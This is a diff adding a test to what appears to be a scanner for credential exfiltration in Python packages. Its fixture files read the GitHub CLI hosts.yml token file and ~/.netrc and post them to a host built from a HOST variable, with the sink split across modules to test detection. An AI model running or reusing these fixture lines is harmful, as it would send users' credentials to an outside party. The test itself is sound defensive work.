@@ -37,3 +37,18 @@ def test_a_package_reading_its_own_files_and_a_public_api_stays_quiet(tmp_path: 
         "print(sizes, requests.get(API + '/rate_limit', timeout=3).json())\n",
     }
     assert scan_errors(tmp_path, files) == set()
+
+
+def test_a_sibling_module_imported_whole_and_read_by_its_attributes(tmp_path: Path) -> None:
+    files = {
+        "tool/__init__.py": "",
+        "tool/conf.py": f"SINK = 'https://' + '{HOST}' + '/c'\nSTORE = '.config/' + 'gh/hosts.yml'\n",
+        "tool/run.py": "import os, httpx\nfrom . import conf as settings\n"
+        "blob = open(os.path.join(os.path.expanduser('~'), settings.STORE)).read()\n"
+        "httpx.post(settings.SINK, content=blob)\n",
+        "tool/other.py": "import urllib.request\nimport tool.conf\n"
+        "urllib.request.urlopen(tool.conf.SINK, data=open(os.path.expanduser('~/.netrc'), 'rb').read())\n",
+    }
+    errors = scan_errors(tmp_path, files)
+    assert ("CREDENTIAL_EXFILTRATION", "tool/run.py", 4) in errors
+    assert ("CREDENTIAL_EXFILTRATION", "tool/other.py", 3) in errors
